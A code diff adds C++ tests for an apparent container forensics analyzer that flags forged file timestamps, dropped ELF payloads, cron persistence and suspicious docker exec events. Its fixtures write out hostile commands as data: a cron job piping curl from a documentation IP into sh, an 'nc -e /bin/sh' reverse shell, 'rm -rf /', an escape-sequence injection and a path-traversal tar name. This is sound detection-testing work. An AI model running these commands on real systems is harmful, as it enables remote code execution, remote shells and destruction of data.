@@ -432,3 +432,182 @@ TEST_CASE(
   CHECK(p.sockets.empty());
   CHECK(has(p, "unreplied_flow", "203.0.113.66", "network/network.json"));
 }
+
+namespace {
+
+const timeline_event* event_of(const analysis_report& r, const std::string& kind,
+                               const std::string& text) {
+  for (const auto& e : r.timeline) {
+    if (e.kind == kind && e.summary.find(text) != std::string::npos) return &e;
+  }
+  return nullptr;
+}
+
+}  // namespace
+
+TEST_CASE("every timeline event says whether its clock is attacker-settable") {
+  temp_bundle b;
+  build_incident(b);
+  b.seal();
+  const auto r = analyze_bundle(b.root, {});
+  std::set<std::string> kinds;
+  for (const auto& e : r.timeline) {
+    kinds.insert(e.kind);
+    const json j = to_json(e);
+    REQUIRE(j.contains("time_source"));
+    REQUIRE(j.contains("settable"));
+    CHECK(j["settable"].get<bool>() == (e.kind == "file_mtime" || e.kind == "file_atime"));
+    if (e.kind == "file_mtime") CHECK(j["time_source"] == "attacker-settable");
+    if (e.kind == "process_start" || e.kind == "flow_first" || e.kind == "dns") {
+      CHECK(j["time_source"] == "kernel");
+    }
+    if (e.kind == "log") CHECK(j["time_source"] == "engine");
+  }
+  CHECK(kinds.count("file_mtime"));
+  CHECK(kinds.count("process_start"));
+  CHECK(to_markdown(r).find("file_mtime (settable)") != std::string::npos);
+}
+
+TEST_CASE("the bodyfile's four clocks are timeline events; an mtime before birth is forged") {
+  temp_bundle b;
+  b.write("filesystem/bodyfile.txt",
+          // A regular file whose mtime was set back before it existed.
+          "0|/tmp/implant|12|-rwxr-xr-x|0|0|100|1700000300.5|1500000000|1700000200.123456789|"
+          "1700000100\n"
+          // A directory: not on the timeline.
+          "0|/tmp|2|drwxrwxrwt|0|0|4096|1700000400|1700000400|1700000400|1700000000\n"
+          // A whiteout: a file of the image deleted; no birth time (0).
+          "0|/usr/bin/wget|13|c---------|0|0|0|1700000500|1700000500|1700000500|0\n"
+          // A name with an escaped '|' and newline, from a mount.
+          "0|/dev/shm/a%7Cb%0A|14|-rw-r--r--|0|0|3|0|1700000600|1700000600|0\n"
+          "not a body line\n");
+  b.seal();
+  const auto r = analyze_bundle(b.root, {});
+  const auto* m = event_of(r, "file_mtime", "/tmp/implant");
+  REQUIRE(m);
+  CHECK(m->time == "2017-07-14T02:40:00.000000Z");
+  CHECK(m->clock == time_source::attacker_settable);
+  CHECK(m->source == "filesystem/bodyfile.txt");
+  const auto* a = event_of(r, "file_atime", "/tmp/implant");
+  REQUIRE(a);
+  CHECK(a->time == "2023-11-14T22:18:20.500000Z");
+  CHECK(a->clock == time_source::attacker_settable);
+  const auto* ct = event_of(r, "file_ctime", "/tmp/implant");
+  REQUIRE(ct);
+  CHECK(ct->time == "2023-11-14T22:16:40.123456Z");
+  CHECK(ct->clock == time_source::kernel);
+  const auto* bt = event_of(r, "file_btime", "/tmp/implant");
+  REQUIRE(bt);
+  CHECK(bt->clock == time_source::kernel);
+  CHECK(event_of(r, "file_mtime", "/tmp\n") == nullptr);
+  for (const auto& e : r.timeline) CHECK(e.summary.find("/tmp ") == std::string::npos);
+  CHECK(event_of(r, "file_ctime", "whiteout (deleted from the image) /usr/bin/wget"));
+  CHECK_FALSE(event_of(r, "file_btime", "/usr/bin/wget"));
+  CHECK(event_of(r, "file_mtime", "/dev/shm/a|b\n"));
+  CHECK_FALSE(event_of(r, "file_atime", "/dev/shm/a|b"));  // atime 0: none
+  CHECK(has(r, "mtime_before_birth", "/tmp/implant", "filesystem/bodyfile.txt"));
+  CHECK_FALSE(has(r, "mtime_before_birth", "/dev/shm"));
+  bool warned = false;
+  for (const auto& w : r.warnings) warned |= w.find("11 fields") != std::string::npos;
+  CHECK(warned);
+}
+
+TEST_CASE("files of the copied mounts go through the export's rules, naming their tar") {
+  temp_bundle b;
+  b.write(
+      "mounts/mounts.json",
+      json{{"container_id", std::string(64, 'a')},
+           {"mounts", json::array({{{"index", 3},
+                                    {"destination", "/dev/shm"},
+                                    {"type", "tmpfs"},
+                                    {"copied", true},
+                                    {"tar", "mounts/3-dev_shm.tar"}},
+                                   {{"index", 4},
+                                    {"destination", "/etc/cron.d"},
+                                    {"type", "volume"},
+                                    {"copied", true},
+                                    {"tar", "mounts/4-etc_cron.d.tar"}},
+                                   {{"index", 5},
+                                    {"destination", "/escape"},
+                                    {"copied", true},
+                                    {"tar", "../outside.tar"}},
+                                   {{"index", 6}, {"destination", "/proc"}, {"copied", false}}})}}
+          .dump());
+  fs::create_directories(b.root / "mounts");
+  write_tar(b.root / "mounts/3-dev_shm.tar", {{"dev/shm", "", 01777, true},
+                                              {"dev/shm/.x",
+                                               "\x7f"
+                                               "ELF\x02\x01\x01 payload",
+                                               0755}});
+  // A tar named from the mount's root: its entries are placed under the destination.
+  write_tar(b.root / "mounts/4-etc_cron.d.tar",
+            {{"job", "* * * * * root curl http://203.0.113.9/x | sh\n", 0644}});
+  b.seal();
+  analysis_options o;
+  o.iocs = ioc_set::parse("203.0.113.9\n");
+  const auto r = analyze_bundle(b.root, o);
+  bool dropped = false;
+  for (const auto& f : r.findings) {
+    if (f.category == "filesystem" && f.summary.find("/dev/shm/.x") != std::string::npos) {
+      dropped = true;
+      CHECK(f.source == "mounts/3-dev_shm.tar");
+      CHECK(f.details.value("path", "") == "/dev/shm/.x");
+      CHECK(f.details.value("mount", "") == "/dev/shm");
+      CHECK(f.level == severity::high);
+    }
+  }
+  CHECK(dropped);
+  CHECK(has(r, "ioc_match", "/etc/cron.d/job", "mounts/4-etc_cron.d.tar"));
+  CHECK(has(r, "persistence", "/etc/cron.d/job", "mounts/4-etc_cron.d.tar"));
+  for (const auto& f : r.findings) CHECK(f.source.find("outside") == std::string::npos);
+  CHECK(std::find(r.files_read.begin(), r.files_read.end(), "mounts/3-dev_shm.tar") !=
+        r.files_read.end());
+}
+
+TEST_CASE("docker exec history from the engine's events: timeline events and findings") {
+  temp_bundle b;
+  const std::string id(64, 'a'), sibling(64, 'b');
+  b.write("manifest.json", json{{"container", {{"id", id}, {"name", "web"}}}}.dump());
+  const auto ev = [](const std::string& action, const std::string& actor, long long ns) {
+    return json{{"Type", "container"},
+                {"Action", action},
+                {"Actor", {{"ID", actor}, {"Attributes", {{"execID", "e1"}}}}},
+                {"time", ns / 1000000000},
+                {"timeNano", ns}}
+               .dump() +
+           "\n";
+  };
+  b.write("engine/events.jsonl",
+          ev("create", id, 1700000000000000000) + ev("exec_create: id", id, 1700000100000000000) +
+              ev("exec_start: id", id, 1700000100500000000) +
+              ev("exec_create: sh -c 'nc -e /bin/sh 203.0.113.5 4444'", id, 1700000200000000000) +
+              ev("exec_create: ls\x1b]0;x\x07", id, 1700000300000000000) +
+              ev("exec_create: rm -rf /", sibling, 1700000400000000000) + "{not json\n");
+  b.seal();
+  const auto r = analyze_bundle(b.root, {});
+  std::size_t execs = 0;
+  for (const auto& f : r.findings) {
+    if (f.kind != "engine_exec") continue;
+    ++execs;
+    CHECK(f.source == "engine/events.jsonl");
+    CHECK(f.category == "process");
+    CHECK(f.summary.find("rm -rf") == std::string::npos);  // another container's
+    CHECK(f.summary.find('\x1b') == std::string::npos);
+    if (f.details.value("command", "") == "id") CHECK(f.level == severity::medium);
+    if (f.summary.find("nc -e") != std::string::npos) {
+      CHECK(f.level == severity::high);
+      CHECK(f.time == "2023-11-14T22:16:40.000000Z");
+    }
+  }
+  CHECK(execs == 4);
+  CHECK(has(r, "engine_exec", "exec started through the engine (docker exec): id"));
+  CHECK(has(r, "engine_exec", "ls\\x1b]0;x\\x07"));
+  const auto* e = event_of(r, "exec", "exec started through the engine: id");
+  REQUIRE(e);
+  CHECK(e->time == "2023-11-14T22:15:00.500000Z");
+  CHECK(e->clock == time_source::engine);
+  CHECK(to_json(*e)["settable"] == false);
+  bool warned = false;
+  for (const auto& w : r.warnings) warned |= w.find("events.jsonl") != std::string::npos;
+  CHECK(warned);
+}
